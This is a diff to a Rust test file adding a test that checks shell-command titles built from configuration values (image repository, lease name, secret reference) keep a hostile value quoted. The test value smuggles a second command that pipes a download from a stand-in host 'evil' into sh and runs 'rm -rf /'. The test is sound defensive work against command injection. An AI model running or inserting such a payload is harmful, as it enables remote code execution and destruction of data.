@@ -66,6 +66,25 @@ fn what_others_have_written_is_no_part_of_the_shell() {
 }
 
 #[test]
+fn flags_in_a_title_are_words_of_the_shell() {
+    let evil = "x; curl evil|sh\n$ rm -rf /";
+    let mut draft = Draft::new("main", "aws", "kube-system");
+    draft.set("image.repository", evil);
+    draft.set("leaderElection.leaseName", evil);
+    draft.set("credentials.secretRef.name", evil);
+    let access = Access::default();
+    let situation = Situation { has_operator: true, ..situation(&draft, &access) };
+    let titles: Vec<_> = situation.first(&[]).next.into_iter().map(|step| step.title).collect();
+    for flag in ["--image-repositories $'x; ", "--leases $'x; ", "--secrets $'x; "] {
+        assert!(titles.iter().any(|title| title.contains(flag)), "{titles:?}");
+    }
+    for title in &titles {
+        let bare: String = title.split('\'').step_by(2).collect();
+        assert!(!bare.contains("curl") && !title.contains('\n'), "{title}");
+    }
+}
+
+#[test]
 fn every_command_reaches_the_cluster_that_was_looked_at() {
     let access = Access { context: Some("prod 1".into()), kubeconfig: Some("k".into()), ..Access::default() };
     let mut draft = Draft::new("main", "aws", "kube-system");
